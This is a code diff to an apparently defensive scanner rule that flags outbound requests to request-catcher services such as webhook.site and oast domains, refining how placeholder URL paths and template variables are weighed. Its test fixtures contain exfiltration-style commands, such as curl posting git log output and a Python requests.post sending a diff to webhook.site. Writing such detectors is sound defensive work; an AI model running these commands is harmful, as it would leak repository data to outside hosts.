@@ -32,7 +32,7 @@ const catchers = oneOf(...catcherHosts, seq('oast.', oneOf('pro', 'live', 'site'
 const managed =
   /^api\.telegram\.org\/bot[^\s/]{1,80}\/(?:get(?:Me|WebhookInfo|MyCommands)|(?:set|delete)(?:Webhook|MyCommands|MyDescription|MyName|ChatMenuButton))\b/i;
 /** A path that is left out: `https://host/...`. */
-const leftOut = /^[^\s/"'`]{3,60}\/(?:\.\.\.|\u2026|<|your[-_]|unique-|x{3,}|\{|\$)/i;
+const leftOut = /^[^\s/"'`]{3,60}\/(?:\.\.\.|\u2026|<|your[-_]|unique-|x{3,}|[{$]{1,2}(\w{0,60}))/i;
 /** The file that is sent is for the reader to name. */
 const ownFile = /[=@<]\s?["']?(?:\/path\/to\/|path\/to\/|<[a-z _-]{2,30}>)/i;
 /** The address is what something else is told to call, not what is called. */
@@ -61,6 +61,14 @@ function isReaders(place: string, { region }: RowHit): boolean {
   return !written.test(region.text);
 }
 
+/** Whether the path is the reader's to fill in: a gap, or a variable that the file gives no value. */
+function isLeftOut(place: string, { region }: RowHit): boolean {
+  const match = leftOut.exec(place);
+  const [, name = ''] = match ?? [];
+  if (match === null || name === '') return match !== null;
+  return !new RegExp(`(?<![\\w$])${name}\\s{0,3}=\\s{0,3}["'][^"'$\\s{<]{8,200}["']`).test(region.text);
+}
+
 function byUse(hit: RowHit): Severity | null {
   const { match, scope, severity } = hit;
   const at = Math.max(0, scope.indexOf(match[0]));
@@ -68,7 +76,7 @@ function byUse(hit: RowHit): Severity | null {
   if (managed.test(place)) return null;
   if (isReaders(place, hit)) return sentFile.test(scope) ? 'medium' : 'low';
   if (severity !== 'high') return severity;
-  if (leftOut.test(place) || ownFile.test(scope) || named.test(scope.slice(0, at))) return 'medium';
+  if (isLeftOut(place, hit) || ownFile.test(scope) || named.test(scope.slice(0, at))) return 'medium';
   return severity;
 }
 
@@ -111,6 +119,7 @@ export const requestCatchers: PatternRule = {
       weigh: byUse,
       catches: [
         inFile('scripts/a.sh', 'curl -d "$(git log)" https://webhook.site/abc'),
+        inFile('a.py', 'box = "3f0c-9b1a-77de"', 'requests.post(f"https://webhook.site/{box}", data=diff)'),
         inFile(
           'scripts/a.sh',
           'K="7123456789:AAExampleExampleExampleExampleExampl"',
